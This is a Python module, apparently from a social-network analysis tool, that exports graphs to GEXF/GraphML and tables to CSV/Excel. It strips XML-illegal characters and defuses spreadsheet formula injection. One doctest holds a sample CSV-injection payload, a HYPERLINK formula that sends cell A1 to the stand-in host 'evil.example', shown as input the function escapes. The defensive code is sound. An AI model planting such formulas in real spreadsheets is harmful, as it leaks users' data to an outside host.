"""Exports: graphs to GEXF and GraphML for Gephi, tables to CSV and Excel with every column.

GEXF and GraphML carry only scalars, so attributes are made safe first: missing values are left
out (never written as None), timestamps become ISO 8601 text, lists become ``"; "``-joined text,
numpy scalars become Python numbers.

Every exported text passes through two shared functions: :func:`xml_safe_text` drops the control
characters XML cannot hold (a handle with U+0001 made GEXF/GraphML unreadable and the report's
xlsx fail), and :func:`spreadsheet_cell` also neutralises text a spreadsheet would run as a
formula (OWASP's CSV-injection advice: a cell starting with ``= + - @``, tab or carriage return
gets a leading ``'``). In .xlsx every text cell is stored as text, never as a formula.
"""

from __future__ import annotations

import datetime as dt
import math
import re
from pathlib import Path
from typing import Any

import networkx as nx
import pandas as pd

from roi.errors import ParameterError

__all__ = ["graph_for_export", "write_gexf", "write_graphml", "export_table", "xml_safe_text", "spreadsheet_cell"]

# Characters XML 1.0 cannot hold (Char ::= #x9 | #xA | #xD | [#x20-#xD7FF] | [#xE000-#xFFFD] | ...).
_XML_ILLEGAL = re.compile("[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def xml_safe_text(value: str) -> str:
    r"""Drop from ``value`` the characters XML 1.0 cannot hold.

    These are NUL, U+0001..U+001F except tab and newlines, lone surrogates, U+FFFE/U+FFFF.

    >>> xml_safe_text("ac\x01me\x00 ✓\n")
    'acme ✓\n'
    """
    return _XML_ILLEGAL.sub("", value)


def spreadsheet_cell(value: Any) -> Any:
    r"""Make a value safe to put in a CSV or Excel cell.

    Text is made :func:`xml_safe_text`, and text a spreadsheet would treat as a formula gets a leading
    ``'`` (OWASP); other values pass as they are.

    >>> spreadsheet_cell('=HYPERLINK("http://evil.example/?"&A1,"x")')
    '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
    >>> spreadsheet_cell("@acme"), spreadsheet_cell("acme"), spreadsheet_cell(-3)
    ("'@acme", 'acme', -3)
    """
    if not isinstance(value, str):
        return value
    value = xml_safe_text(value)
    return "'" + value if value.startswith(_FORMULA_START) else value


def _safe(value: Any) -> Any:
    """Return a GEXF/GraphML-safe scalar, or None to leave the attribute out."""
    if value is None or value is pd.NA or value is pd.NaT:
        return None
    if isinstance(value, (pd.Timestamp, dt.datetime, dt.date)):
        return value.isoformat()
    if isinstance(value, (list, tuple, set)) or (hasattr(value, "tolist") and not hasattr(value, "item")):
        items = value.tolist() if hasattr(value, "tolist") else list(value)
        return "; ".join(str(v) for v in items)
    if hasattr(value, "item"):
        value = value.item()
    if isinstance(value, float) and not math.isfinite(value):
        return None
    if isinstance(value, str):
        return xml_safe_text(value)
    if isinstance(value, (bool, int, float)):
        return value
    return xml_safe_text(str(value))


def _node(v: Any) -> Any:
    return xml_safe_text(v) if isinstance(v, str) else v


def graph_for_export(G: nx.Graph, *, node_table: pd.DataFrame | None = None) -> nx.Graph:
    """Return a copy of ``G`` whose node and edge attributes GEXF and GraphML can store.

    ``node_table`` (indexed by nothing, with an ``account_id`` column, e.g. the influence table)
    adds its columns as node attributes, so Gephi can size nodes by PageRank.

    Examples
    --------
    >>> G = nx.DiGraph()
    >>> G.add_node("1", handle="acme", created_at=pd.Timestamp("2020-01-01", tz="UTC"), bio=None)
    >>> G.add_edge("2", "1", first_seen=pd.NaT)
    >>> H = graph_for_export(G)
    >>> H.nodes["1"], H.edges["2", "1"]
    ({'handle': 'acme', 'created_at': '2020-01-01T00:00:00+00:00'}, {})
    """
    H = G.__class__()
    extra: dict[str, dict[str, Any]] = {}
    if node_table is not None and len(node_table):
        if "account_id" not in node_table:
            raise ParameterError("node_table: expected an account_id column (e.g. the influence table)")
        cols = [c for c in node_table.columns if c != "account_id"]
        for row in node_table[["account_id", *cols]].itertuples(index=False, name=None):
            extra[str(row[0])] = dict(zip(cols, row[1:], strict=True))
    for v, attrs in G.nodes(data=True):
        merged = {**attrs, **extra.get(str(v), {})}
        H.add_node(_node(v), **{xml_safe_text(str(k)): s for k, val in merged.items() if (s := _safe(val)) is not None})
    for u, v, attrs in G.edges(data=True):
        H.add_edge(_node(u), _node(v),
                   **{xml_safe_text(str(k)): s for k, val in attrs.items() if (s := _safe(val)) is not None})
    return H


def write_gexf(G: nx.Graph, path: str | Path, *, node_table: pd.DataFrame | None = None) -> Path:
    """Write ``G`` (made safe by :func:`graph_for_export`) as GEXF 1.2 for Gephi; return the path."""
    path = Path(path)
    nx.write_gexf(graph_for_export(G, node_table=node_table), path)
    return path


def write_graphml(G: nx.Graph, path: str | Path, *, node_table: pd.DataFrame | None = None) -> Path:
    """Write ``G`` (made safe by :func:`graph_for_export`) as GraphML; return the path."""
    path = Path(path)
    nx.write_graphml(graph_for_export(G, node_table=node_table), path)
    return path


def export_table(table: pd.DataFrame, path: str | Path, *, sheet_name: str = "roi") -> Path:
    """Write a table to ``.csv`` or ``.xlsx`` (by the suffix) with every column; return the path.

    CSV keeps timestamps as ISO 8601 with their UTC offset. Excel cannot store time zones, so
    timestamps are written as UTC wall time and their column names get a `` (UTC)`` suffix.
    List columns become ``"; "``-joined text in both.

    Raises
    ------
    ParameterError
        If the suffix is neither .csv nor .xlsx.
    """
    path = Path(path)
    suffix = path.suffix.casefold()
    if suffix not in (".csv", ".xlsx"):
        raise ParameterError(f"{str(path)!r}: expected a .csv or .xlsx file name")
    out = table.copy()
    for col in out.columns:
        if isinstance(out[col].dtype, pd.ArrowDtype) and "list" in str(out[col].dtype):
            out[col] = [_safe(v) if v is not None else None for v in out[col].tolist()]
        if out[col].dtype == object or pd.api.types.is_string_dtype(out[col].dtype):
            out[col] = out[col].map(spreadsheet_cell, na_action="ignore")
    out.columns = [spreadsheet_cell(str(c)) for c in out.columns]
    if suffix == ".csv":
        # RFC 4180 line ends, so a carriage return inside a cell is quoted like a newline is
        out.to_csv(path, index=False, lineterminator="\r\n")
        return path
    renames = {}
    for col in out.columns:
        if isinstance(out[col].dtype, pd.DatetimeTZDtype):
            out[col] = out[col].dt.tz_convert("UTC").dt.tz_localize(None)
            renames[col] = f"{col} (UTC)"
    out = out.rename(columns=renames)
    out = out.astype(object).where(out.notna(), None)
    sheet = xml_safe_text(sheet_name)[:31] or "roi"
    with pd.ExcelWriter(path, engine="openpyxl") as writer:
        out.to_excel(writer, index=False, sheet_name=sheet)
        for row in writer.sheets[sheet].iter_rows():
            for cell in row:
                if cell.data_type == "f":  # openpyxl takes any text starting with "=" for a formula
                    cell.data_type = "s"
    return path
